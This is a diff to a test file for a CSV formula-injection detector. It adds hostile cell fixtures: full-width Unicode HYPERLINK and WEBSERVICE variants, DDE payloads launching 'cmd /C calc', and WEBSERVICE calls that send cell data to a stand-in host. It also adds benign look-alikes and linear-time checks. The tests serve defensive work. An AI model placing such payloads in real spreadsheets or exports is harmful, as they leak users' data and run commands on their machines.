@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { csvHasFormula } from '../../../../shared/domain/uploads/csv-formulas';
 import { detectFileKind } from '../../../../shared/domain/uploads/file-type';
+import { growth } from '../../../support/growth';
 
 const ORDERS_HEADER = 'pedido;data;cliente;valor;observação\n';
 
@@ -66,6 +67,42 @@ describe('csvHasFormula: cells a spreadsheet would run', () => {
       'pedido;link\n1072;-0&"pedido, frete"&HIPERLINK("http://golpe.example")\n',
     ],
     ['a DDE link after a string with a comma', 'pedido;valor\n1073;+"a,b"&cmd|\' /C calc\'!A0\n'],
+    // Full-width names and brackets, read as ASCII by East Asian locales (files 55).
+    [
+      'a full-width sign and name',
+      'pedido;link\n1076;\uff0d\uff28\uff39\uff30\uff25\uff32\uff2c\uff29\uff2e\uff2b("http://golpe.example")\n',
+    ],
+    [
+      'a full-width equals sign and name',
+      'pedido;link\n1077;\uff1d\uff28\uff39\uff30\uff25\uff32\uff2c\uff29\uff2e\uff2b("http://golpe.example")\n',
+    ],
+    [
+      'a remote call in full-width capitals',
+      'pedido;cliente\n1078;-\uff37\uff25\uff22\uff33\uff25\uff32\uff36\uff29\uff23\uff25("http://golpe.example/?c="&B2)\n',
+    ],
+    [
+      'a remote call with a full-width bracket',
+      'pedido;cliente\n1079;-webservice\uff08"http://golpe.example/?c="&B2)\n',
+    ],
+    ['an ideographic space before the sign', 'pedido;link\n1080;\u3000=HYPERLINK("http://golpe.example")\n'],
+    ['a full-width DDE bar and item', "pedido;valor\n1081;-cmd\uff5c' /C calc'\uff01A0\n"],
+    // A space before the bracket: LibreOffice reads it as the call.
+    ['a space between a link and its bracket', 'pedido;link\n1082;-HYPERLINK ("http://golpe.example/login")\n'],
+    [
+      'a no-break space between a pt-BR remote call and its bracket',
+      'pedido;cliente\n1083;+ serviçoweb\u00a0("http://golpe.example/?c="&B2)\n',
+    ],
+    // A DDE link's application name may be quoted (Microsoft's syntax: 'APP'|'TOPIC'!'ITEM').
+    ['a DDE link with its application in single quotes', "pedido;valor\n1084;-'cmd'|' /C calc'!A0\n"],
+    ['a DDE link with its application in double quotes', 'pedido;valor\n1085;-"cmd"|\' /C calc\'!A0\n'],
+    ['a DDE link with every part quoted, after an at sign', "pedido;valor\n1086;@'cmd'|'/C calc'!'A0'\n"],
+    // LibreOffice's DDE function, in any case.
+    ['a DDE call in lower case', 'pedido;valor\n1087;"-dde(""cmd"";""/C calc"";""x"")"\n'],
+    ['a DDE call after a reference', 'pedido;valor\n1088;"+A1&Dde(""cmd"";""/C calc"";""x"")"\n'],
+    // Words only in a call LibreOffice runs: a word may be a column's heading (its label lookup).
+    ['a remote call of a heading', 'url;pedido\nhttp://golpe.example/?c=;1089\n-WEBSERVICE(url)\n'],
+    ['a link to a heading, in lower case', 'site;pedido\nhttp://golpe.example;1090\n- hyperlink(site)\n'],
+    ['a function of a word, then an operator', 'pedido;total\n1091;-SUM(P)*2\n'],
   ])('%s', (_name, text) => {
     expect(csvHasFormula(text)).toBe(true);
   });
@@ -107,6 +144,20 @@ describe('csvHasFormula: cells a spreadsheet would run', () => {
       'a negative value, then a quoted note with a call written as text',
       'valor,nota\n-15,"ver WEBSERVICE(x), depois"\n',
     ],
+    // A bar with no DDE item after it is a list (files 55): a DDE link is app|topic!item.
+    ['sizes with bars after a dash', 'produto;grade\nCamiseta;- tamanhos P|M|G\n'],
+    ['sizes with bars stuck to a dash', 'produto;grade\nCamiseta;-P|M|G\n'],
+    ['sizes with bars and an exclamation', 'produto;obs\nCamiseta;- tamanhos P|M|G! aproveite\n'],
+    // A word in capitals and a size or plural in brackets that end the cell: a list's item.
+    ['a word in capitals with a size ending the cell', 'item\n-CAMISETA(P)\n'],
+    ['a quantity and a word in capitals with a plural', 'pedido;item\n1;- 2 CAMISETA(S)\n2;+KIT(GG);3\n'],
+    ['a quoted word in capitals with a size', 'item;qtd\n"-CAMISETA(P)";1\n'],
+    // A remote function's English name as a word, a plural in brackets: no spreadsheet defines "s".
+    ['calls with a plural in a list', 'obs\n- 2 call(s) sem resposta\n'],
+    ['images with a plural in a list', 'obs\n+ 3 image(s) do produto\n'],
+    ['calls with a plural ending the cell', 'atendimento;obs\nAna;- 2 CALL(S)\n'],
+    // Full-width text read as ASCII is still text.
+    ['a full-width negative value and a Japanese list', 'valor;itens\n\uff0d15,00;\uff0d 商品\uff08\uff33\uff09\n'],
     ['empty', ''],
   ])('%s: no formula', (_name, text) => {
     expect(csvHasFormula(text)).toBe(false);
@@ -148,6 +199,10 @@ describe('csvHasFormula: bounded work on hostile shapes', () => {
     ['a bracket closed before a run of spaces', `-X(S)${' '.repeat(2_000_000)}x\n`],
     ['signed cells with strings holding commas', `${',-"a,'.repeat(1_000_000)}`],
     ['signed cells whose strings stay open', `${`,-"${'a,('.repeat(85)}`.repeat(40_000)}`],
+    ['bars with no item, one cell after another', `${',-a|'.repeat(1_000_000)}\n`],
+    ['bars and exclamations with no item', `-${'a|! '.repeat(1_000_000)}\n`],
+    ['calls of words, one cell after another', `${';-call(s)'.repeat(1_000_000)}\n`],
+    ['full-width text as long as an upload', `-${'\uff21\uff22\uff08\uff33\uff09\u3000'.repeat(1_000_000)}\n`],
   ])('%s: no formula, read in linear time', (_name, text) => {
     expect(csvHasFormula(text)).toBe(false);
   });
@@ -169,5 +224,23 @@ describe('csvHasFormula: a sign before a run as long as an upload', () => {
   it('a CSV upload of one such cell is a CSV', () => {
     const file = new Uint8Array(Buffer.from(`data,valor\n2026-11-01,-${run('1')}\n`, 'utf8'));
     expect(detectFileKind(file, 'extrato.csv')).toMatchObject({ ok: true, kind: 'csv' });
+  });
+});
+
+// The readings added for DDE items, calls of words and full-width text (files 55), as ratios: a 10×
+// longer input under 30× the time (a quadratic reading is about 100×).
+describe('csvHasFormula: linear in the shapes of its newer readings', () => {
+  it.each([
+    ['bars with no item', (n: number) => `${',-a|'.repeat(n)}\n`],
+    ['a bar, then exclamations with no item', (n: number) => `-a|${'! '.repeat(n)}\n`],
+    ['bars in one cell, an item far behind', (n: number) => `-"x"${'|'.repeat(n)}\n`],
+    ['calls of words', (n: number) => `${';-call(s)'.repeat(n)}\n`],
+    ['calls of words never closed', (n: number) => `-A1&${'image(s '.repeat(n)}\n`],
+    ['full-width words and brackets', (n: number) => `-${'\uff21\uff22\uff08\uff33\uff09\u3000'.repeat(n)}\n`],
+    ['a call of one long word never closed', (n: number) => `-A1&image(${'a'.repeat(n)}\n`],
+    ['a name in capitals, then one long word never closed', (n: number) => `-CAMISETA(${'a'.repeat(n)}\n`],
+    ['names and spaces before no bracket', (n: number) => `-A1&WEBSERVICE${' '.repeat(n)}x\n`],
+  ])('%s', (_name, text) => {
+    expect(growth(text, csvHasFormula, 2_000)).toBeLessThan(30);
   });
 });
